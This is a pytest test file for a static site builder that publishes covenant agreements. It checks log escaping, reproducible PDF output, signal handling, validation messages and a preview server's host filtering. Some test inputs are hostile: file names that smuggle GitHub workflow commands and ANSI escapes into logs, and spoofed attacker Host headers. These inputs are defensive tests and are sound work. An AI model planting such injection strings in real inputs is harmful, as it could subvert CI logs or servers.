    assert problem.text() == "a\\n::stop-commands::tok\\r,x:y%.yaml:3: (file): bad\\n::error::z %"
    warning = Problem("b,c.yaml", 1, "f", "m\r\n", severity="warning")
    assert warning.github() == "::warning file=b%2Cc.yaml,line=1::f: m%0D%0A"


@pytest.mark.parametrize(
    "name",
    [
        "x\n::stop-commands::tok\n.yaml",
        "y\r::error file=a,line=1::pwned.yaml",
        "z\u2028::warning::w.yaml",
        "\x1b[31mred.yaml",
    ],
)
def test_a_file_name_cannot_inject_commands_into_the_log(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURE, content)
    shutil.copyfile(content / "covenants" / "voorbeeld.yaml", content / "covenants" / name)
    for args in (["check", "--format", "github"], ["check"], ["build", "--no-pdf"]):
        result = bad_run(tmp_path, [*args, "--content", "content"], monkeypatch, capsys)
        assert result.code == 1
        assert "\u2028" not in result.out + result.err
        out, err = result.out.split("\n")[:-1], result.err.split("\n")[:-1]
        assert len(out) == (1 if "github" in args else 0)
        assert all(line.startswith("::error file=content/covenants/") for line in out), out
        assert not [line for line in out + err if line.startswith("::") and line not in out]
        assert "\x1b" not in result.out + result.err
        assert "\n::" not in result.out.replace("\n::error file=", "")
        assert len(err) == (1 if "github" in args else 2)  # (the one problem and) the count


# --- 6. PDFs: the same bytes on every build, no address of the build machine --------------


def _pdf_build(corpus: Corpus, folder: Path, site_url: str | None) -> dict[str, bytes]:
    """A cold build (its own empty PDF cache) with PDFs; every PDF's bytes by path."""
    from imvo import pdf
    from imvo.write import PostStep

    cache = folder / "cache"

    def printed(corpus: Corpus, site: Path, timings: object) -> None:
        pdf.make_pdfs(corpus, site, cache=cache, site_url=site_url)

    steps = [*post_steps(pdf=False), PostStep(printed)]
    build_site(corpus, folder / "site", site_url=site_url, post_steps=steps, jobs=1)
    return {
        path.relative_to(folder / "site").as_posix(): path.read_bytes()
        for path in sorted((folder / "site").rglob("*.pdf"))
    }


@pytest.mark.parametrize("site_url", [None, "https://org.example/imvo/"])
def test_pdfs_are_the_same_bytes_on_two_cold_builds_and_link_only_to_the_published_site(
    site_url: str | None,
    fixture_corpus: Corpus,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    prints_pdfs: None,
) -> None:
    import dataclasses
    import re

    from imvo.model import Text

    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1763683200")
    # A printed text with a link to another page of the site: the print leaves off the
    # screen-only links (see also, more on due diligence), so the summary carries one.
    covenant = fixture_corpus.covenants["voorbeeld"]
    summary = Text(
        nl="Een convenant; zie [het overzicht](overzicht.html).",
        en="An agreement; see [the overview](overview.html).",
    )
    corpus = dataclasses.replace(
        fixture_corpus, covenants={"voorbeeld": covenant.model_copy(update={"summary": summary})}
    )
    first = _pdf_build(corpus, tmp_path / "one", site_url)
    second = _pdf_build(corpus, tmp_path / "two", site_url)
    assert sorted(first) == ["en/pdf/voorbeeld.pdf", "pdf/voorbeeld.pdf"]
    assert first == second
    for data in first.values():
        assert b"file:" not in data
        assert str(tmp_path).encode() not in data
        assert b".invalid" not in data
        links = set(re.findall(rb"/URI \(([^)]*)\)", data))
        inside = {link for link in links if not link.startswith(b"https://example.org/")}
        if site_url is None:
            assert inside == set()
        else:
            assert inside and all(link.startswith(site_url.encode()) for link in inside)
        assert b"(D:20251121000000+00'00')" in data


# --- 7. Signals: SIGTERM and SIGHUP stop a build as Ctrl-C does ----------------------------

SLOW_BUILD = """
import sys, time
sys.path.insert(0, {root!r})
from imvo import render
def slow(markdown):
    time.sleep(120)
    return markdown
render.first_sentence = slow
from imvo.cli import main
sys.exit(main(["build", "--no-pdf", "--content", "content", "--site", "site"]))
"""


def _children(pid: int) -> list[int]:
    found = []
    for task in Path(f"/proc/{pid}/task").iterdir():
        text = (task / "children").read_text().split()
        found += [int(child) for child in text]
    return found


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().split(")")[-1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.parametrize(
    ("signum", "to_worker"),
    [(signal.SIGTERM, False), (signal.SIGHUP, False), (signal.SIGTERM, True)],
)
def test_a_signal_stops_the_build_cleans_up_and_ends_the_workers(
    signum: int, to_worker: bool, tmp_path: Path
) -> None:
    import subprocess
    import sys
    import time

    shutil.copytree(FIXTURE, tmp_path / "content")
    before = old_site(tmp_path)
    (tmp_path / "site" / MARKER).write_text("made by the build\n", encoding="utf-8")
    before = bad_snapshot(tmp_path / "site")
    env = {**os.environ, "SOURCE_DATE_EPOCH": "1763683200"}
    process = subprocess.Popen(
        [sys.executable, "-c", SLOW_BUILD.format(root=str(ROOT))],
        cwd=tmp_path,
        env=env,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        deadline = time.monotonic() + 60
        workers: list[int] = []
        while time.monotonic() < deadline and len(workers) < 2:
            time.sleep(0.2)
            workers = _children(process.pid)
        assert len(workers) >= 2, "the two language workers did not start"
        time.sleep(1.0)  # they are inside the slow page now
        os.kill(workers[0] if to_worker else process.pid, signum)
        code = process.wait(timeout=30)
    finally:
        process.kill()
        process.wait()
    err = process.stderr.read() if process.stderr else ""
    assert code != 0
    if not to_worker:
        assert code == 128 + signum
        name = signal.Signals(signum).name
        assert err.splitlines()[-1] == (
            f"The build was stopped ({name}); the existing site is unchanged."
        )
    assert "Traceback" not in err
    time.sleep(0.5)
    assert [pid for pid in workers if _alive(pid)] == []
    assert sorted(p.name for p in tmp_path.iterdir()) == ["content", "site"]
    assert bad_snapshot(tmp_path / "site") == before


# --- 8. Check and build agree --------------------------------------------------------------


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda covenants: shutil.rmtree(covenants), "is missing"),
        (
            lambda covenants: (shutil.rmtree(covenants), covenants.write_text("x\n")),
            "is a file, not a folder",
        ),
    ],
)
def test_a_missing_covenants_folder_is_an_error_not_an_empty_site(
    make: Any,
    message: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURE, content)
    make(content / "covenants")
    expected = (
        f"content/covenants:1: (folder): the folder of covenant files {message}; make it and "
        "put the covenant files in it"
    )
    before = old_site(tmp_path)
    for args in (["check"], ["build", "--no-pdf"]):
        result = bad_run(tmp_path, [*args, "--content", "content"], monkeypatch, capsys)
        assert (result.code, result.err.splitlines()) == (1, [expected, "1 error in 1 file."])
    assert bad_snapshot(tmp_path / "site") == before


@pytest.mark.parametrize(
    "date",
    ["1900-01-01", "2100-12-31", "1900", "2100-12", "2016-02-29"],
)
def test_every_date_check_accepts_builds(
    date: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURE, content)
    covenant = content / "covenants" / "voorbeeld.yaml"
    text = covenant.read_text("utf-8")
    for old in ('  date: "2020-06"', '  date: "2016-08"'):
        text = text.replace(old, f'  date: "{date}"')
    text = text.replace('  date: "2016-07-04"', '  date: "1900-01-01"')
    text = text.replace('- date: "2016-07-05"', '- date: "1900-01-02"')
    covenant.write_text(text, encoding="utf-8")
    checked = bad_run(tmp_path, ["check", "--content", "content"], monkeypatch, capsys)
    assert "error" not in checked.err, checked.err
    built = bad_run_build(tmp_path, monkeypatch, capsys)
    assert built.code == 0, built.err


# --- 9. One mistake, one message; a bounded did-you-mean ----------------------------------


def test_one_wrong_kind_in_parties_yaml_is_one_annotation(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURE, content)
    for index in range(12):  # more covenants, all naming the party with the wrong kind
        shutil.copyfile(
            content / "covenants" / "voorbeeld.yaml", content / "covenants" / f"c-{index}.yaml"
        )
    parties = content / "parties.yaml"
    parties.write_text(
        parties.read_text("utf-8").replace("kind: trade_union", "kind: vakbond"), "utf-8"
    )
    github = bad_run(tmp_path, ["check", "--format", "github"], monkeypatch, capsys)
    assert github.out.splitlines() == [
        "::error file=content/parties.yaml,line=5::parties[0].kind: expected one of trade_union, "
        "ngo, government, sector_association, company, facilitator, knowledge_institute; got "
        "'vakbond'"
    ]
    # An id that really is unknown is still reported, with its hint, beside the cause.
    covenant = content / "covenants" / "c-0.yaml"
    covenant.write_text(covenant.read_text("utf-8").replace("party: fnv", "party: fvn"), "utf-8")
    text = bad_run(tmp_path, ["check"], monkeypatch, capsys)
    assert text.err.splitlines() == [
        "content/covenants/c-0.yaml:37: parties[0].party: no party 'fvn' in "
        "content/parties.yaml; did you mean 'fnv'?",
        "content/parties.yaml:5: parties[0].kind: expected one of trade_union, ngo, government, "
        "sector_association, company, facilitator, knowledge_institute; got 'vakbond'",
        "2 errors in 2 files.",
    ]


def test_did_you_mean_among_many_names_compares_few_and_still_finds_typos(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import difflib
    import random
    import string

    from imvo.validate import hints as validate

    rng = random.Random(3)
    names = {
        "".join(rng.choices(string.ascii_lowercase, k=rng.randint(6, 12))) for _ in range(20_000)
    }
    names |= {"fnv", "cnv-vakmensen", "mvo-nederland", "oxfam-novib"}
    compared: list[int] = []
    real = difflib.get_close_matches

    def counting(word: str, possibilities: list[str], n: int = 3) -> list[str]:
        compared.append(len(possibilities))
        return real(word, possibilities, n=n)

    monkeypatch.setattr(validate.difflib, "get_close_matches", counting)
    hints = validate.NameHints(names)
    cases = {
        "fvn": "fnv",  # two letters swapped
        "cnv-vakmense": "cnv-vakmensen",  # one too few
        "mvo-nederlandd": "mvo-nederland",  # one too many
        "oxfam-nouib": "oxfam-novib",  # one wrong
        "ncv-vakmensen": "cnv-vakmensen",  # the first two swapped
    }
    for typo, meant in cases.items():
        assert hints.closest(typo) == meant
    assert hints.closest("zzzzzzzzzzzzzzzzzzzz") is None
    assert max(compared) < 100  # not 20,000
    small = validate.NameHints({"fnv", "ser", "branche"})
    assert small.closest("brance") == "branche"


# --- 10. The live preview answers to its own host names only -------------------------------


def _free_port() -> int:
    import socket

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def _status(port: int, host: str | None) -> tuple[int, bytes]:
    import socket

    lines = ["GET /index.html HTTP/1.1" if host is not None else "GET /index.html HTTP/1.0"]
    if host is not None:
        lines.append(f"Host: {host}")
    lines += ["Connection: close", "", ""]
    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
        connection.sendall("\r\n".join(lines).encode("latin-1"))
        data = b""
        while chunk := connection.recv(65536):
            data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    return int(head.split()[1]), body


def test_the_preview_refuses_foreign_host_headers(tmp_path: Path) -> None:
    import subprocess
    import sys
    import time

    shutil.copytree(FIXTURE, tmp_path / "content")
    port = _free_port()
    process = subprocess.Popen(
        [sys.executable, str(ROOT / "build.py"), "serve", "--port", str(port)],
        cwd=tmp_path,
        env={**os.environ, "SOURCE_DATE_EPOCH": "1763683200"},
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert process.stderr is not None
        deadline = time.monotonic() + 90
        while time.monotonic() < deadline:
            line = process.stderr.readline()
            if line.startswith("Preview on") or not line:
                break
        time.sleep(0.5)
        for host in (
            f"127.0.0.1:{port}",
            f"localhost:{port}",
            f"LOCALHOST:{port}",
            f"[::1]:{port}",
        ):
            code, body = _status(port, host)
            assert code == 200, host
            assert b"Convenant Voorbeeldsector" in body or b"<html" in body
        for host in (
            f"evil.example:{port}",
            "evil.example",
            f"127.0.0.1:{port + 1}",
            "127.0.0.1",
            f"127.0.0.1.evil.example:{port}",
            f"localhost.:{port}",
            "",
            None,
        ):
            code, body = _status(port, host)
            assert code == 403, host
            assert b"Voorbeeld" not in body
    finally:
        process.send_signal(signal.SIGTERM)
        try:
            process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


def test_host_allowed_is_exact() -> None:
    from imvo.serve import host_allowed

    assert host_allowed("127.0.0.1:8000", 8000)
    assert host_allowed("[::1]:8000", 8000)
    assert host_allowed("127.0.0.1", 80)
    assert not host_allowed("127.0.0.1", 8000)
    assert not host_allowed("attacker.example:8000", 8000)
    assert not host_allowed("127.0.0.1:8000@attacker.example", 8000)
    assert not host_allowed(None, 8000)


PDF_BUILD = """
import os, sys
sys.path.insert(0, {root!r})
from pathlib import Path
from imvo import pdf
from imvo.interrupt import Interrupted
from imvo.outputs import post_steps
from imvo.validate import load_content
from imvo.write import PostStep, build_site
corpus = load_content(Path("content"), Path("."))
step = PostStep(lambda corpus, site, timings: pdf.make_pdfs(corpus, site, cache=Path("cache")))
try:
    build_site(corpus, Path("site"), post_steps=[*post_steps(pdf=False), step])
except Interrupted as stopped:
    sys.exit(128 + stopped.signum)
"""


def _cmdline(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


def _descendants(pid: int) -> list[int]:
    found = []
    try:
        children = _children(pid)
    except OSError:
        return found
    for child in children:
        found += [child, *_descendants(child)]
    return found


def test_sigterm_while_printing_pdfs_stops_at_once(tmp_path: Path, prints_pdfs: None) -> None:
    import subprocess
    import sys
    import time

    shutil.copytree(FIXTURE, tmp_path / "content")
    process = subprocess.Popen(
        [sys.executable, "-c", PDF_BUILD.format(root=str(ROOT))],
        cwd=tmp_path,
        env={**os.environ, "SOURCE_DATE_EPOCH": "1763683200"},
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        deadline = time.monotonic() + 120
        printing: list[int] = []
        while time.monotonic() < deadline and not printing:
            time.sleep(0.2)
            printing = [
                pid
                for pid in _descendants(process.pid)
                if b"remote-debugging-pipe" in _cmdline(pid)
            ]
        assert printing, "Chromium did not start"
        everything = _descendants(process.pid)
        process.send_signal(signal.SIGTERM)
        code = process.wait(timeout=20)
    finally:
        process.kill()
        process.wait()
    assert code == 128 + signal.SIGTERM
    assert "Traceback" not in (process.stderr.read() if process.stderr else "")
    time.sleep(2)
    assert [pid for pid in everything if _alive(pid)] == []
    assert sorted(p.name for p in tmp_path.iterdir()) in (["cache", "content"], ["content"])
